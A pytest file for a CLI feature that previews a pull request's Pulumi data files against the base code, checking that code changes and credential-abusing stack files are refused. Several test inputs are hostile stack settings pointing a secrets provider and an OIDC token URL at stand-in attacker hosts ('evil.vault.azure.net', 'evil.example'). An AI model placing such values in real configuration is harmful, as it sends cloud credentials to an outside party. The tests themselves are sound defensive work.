"""The real preview runs no code of a pull request (issue 20, item 5): `mssp diff BASE HEAD --write-overlay DIR`
puts HEAD's data files into a checkout of BASE, for the base's program to preview with credentials. A change
that edits code, and a stack file that would make the Pulumi CLI or a provider act with the preview's
credentials (ESC environments, a secrets provider, provider config), are refused before any preview."""

from __future__ import annotations

from pathlib import Path

import pytest
from test_diff import git
from test_head_plans import CUSTOMER, commit_all, repo  # noqa: F401 (repo: the fixture)

from mssp.cli import main


def _base_checkout(repo: Path, tmp_path: Path) -> Path:  # noqa: F811
    tree = tmp_path / "base-tree"
    git(repo, "worktree", "add", "-q", "--detach", str(tree), "base")
    return tree


def test_data_of_head_lands_in_the_base_checkout(repo: Path, tmp_path: Path,  # noqa: F811
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    tree = _base_checkout(repo, tmp_path)
    assert main(["diff", "base", "data", "--repo", str(repo), "--write-overlay", str(tree)]) == 0
    assert "note: head" in (tree / "stacks" / "Pulumi.contoso.yaml").read_text()
    assert not (tree / "stacks" / "inventories" / "contoso.yaml").exists()  # deleted in HEAD
    assert "'base'" in (tree / "mssp" / "__main__.py").read_text()  # the base's code stays
    assert "wrote 2 data file(s)" in capsys.readouterr().out


def test_a_code_change_gets_no_real_preview(repo: Path, tmp_path: Path,  # noqa: F811
                                            capsys: pytest.CaptureFixture[str]) -> None:
    tree = _base_checkout(repo, tmp_path)
    assert main(["diff", "base", "code", "--repo", str(repo), "--write-overlay", str(tree)]) == 2
    assert "the change edits code (mssp/__main__.py)" in capsys.readouterr().err
    assert "note: base" in (tree / "stacks" / "Pulumi.contoso.yaml").read_text()


def test_only_a_checkout_of_the_base_commit_is_written(repo: Path, tmp_path: Path,  # noqa: F811
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    other = tmp_path / "head-tree"
    git(repo, "worktree", "add", "-q", "--detach", str(other), "data")
    assert main(["diff", "base", "data", "--repo", str(repo), "--write-overlay", str(other)]) == 2
    assert "not a checkout of the base commit" in capsys.readouterr().err
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["diff", "base", "data", "--repo", str(repo), "--write-overlay", str(empty)]) == 2


@pytest.mark.parametrize(("extra", "needle"), [
    ("environment:\n  - prod-secrets\n", "top-level key(s) environment"),
    ("secretsprovider: azurekeyvault://evil.vault.azure.net/keys/k\n", "top-level key(s) secretsprovider"),
    ("encryptedkey: abc\n", "top-level key(s) encryptedkey"),
    ("CONFIG_SUFFIX  azure-native:oidcRequestUrl: https://evil.example/token\n", "azure-native:oidcRequestUrl"),
    ("CONFIG_SUFFIX  pulumi:disable-default-providers: ['*']\n", "pulumi:disable-default-providers"),
])
def test_a_stack_file_that_would_act_with_the_previews_credentials_is_refused(
        repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], extra: str, needle: str) -> None:  # noqa: F811
    git(repo, "checkout", "-q", "-B", "hostile", "base")
    text = CUSTOMER.format(stack="contoso", note="head")
    text = text + extra.removeprefix("CONFIG_SUFFIX") if extra.startswith("CONFIG_SUFFIX") else extra + text
    (repo / "stacks" / "Pulumi.contoso.yaml").write_text(text)
    commit_all(repo, "hostile stack file")
    git(repo, "checkout", "-q", "base")
    tree = _base_checkout(repo, tmp_path)
    assert main(["diff", "base", "hostile", "--repo", str(repo), "--write-overlay", str(tree)]) == 2
    err = capsys.readouterr().err
    assert "the real preview refuses HEAD's data" in err and needle in err and "stacks/Pulumi.contoso.yaml" in err
